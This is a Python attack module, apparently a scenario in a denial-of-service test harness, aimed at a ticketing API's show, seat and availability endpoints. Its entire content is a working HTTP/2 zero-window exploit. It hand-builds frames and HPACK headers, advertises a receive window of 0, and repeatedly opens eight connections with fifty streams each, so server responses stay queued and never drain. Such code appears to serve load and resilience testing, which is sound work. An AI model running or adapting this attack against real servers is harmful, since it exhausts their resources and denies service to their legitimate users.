"""HTTP/2 connections with a window of 0 bytes open many streams and never accept a byte."""

import struct

NAME = "http2-window-zero"
SECONDS = (6, 60)
CONNECTIONS = 8
STREAMS = 50

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, SETTINGS = 0x1, 0x4
END_STREAM, END_HEADERS = 0x1, 0x4
INITIAL_WINDOW_SIZE = 0x4


def frame(kind, flags, stream, payload):
    return (
        struct.pack(">I", len(payload))[1:]
        + bytes((kind, flags))
        + struct.pack(">I", stream)
        + payload
    )


def literal(name, value):
    """HPACK: a field without indexing, both parts as they are."""

    def text(data):
        return (bytes((len(data),)) if len(data) < 127 else bytes((127, len(data) - 127))) + data

    return b"\x00" + text(name) + text(value)


def request(stream, path):
    block = b"".join(
        (
            literal(b":method", b"GET"),
            literal(b":scheme", b"http"),
            literal(b":authority", b"localhost"),
            literal(b":path", path.encode()),
        )
    )
    return frame(HEADERS, END_HEADERS | END_STREAM, stream, block)


def prepare(server):
    return server.large_show()[0]


def attack(attacker, show):
    first = PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 0))
    while attacker.is_on():
        for _ in range(CONNECTIONS):
            connection = attacker.keep(attacker.connect(receive_bytes=4096))
            if not connection:
                continue
            paths = ("seats", "availability", "availability/stream")
            streams = b"".join(
                request(1 + 2 * n, f"/api/v1/shows/{show}/{paths[n % len(paths)]}")
                for n in range(STREAMS)
            )
            attacker.send(connection, first + streams)
        attacker.rest(4)
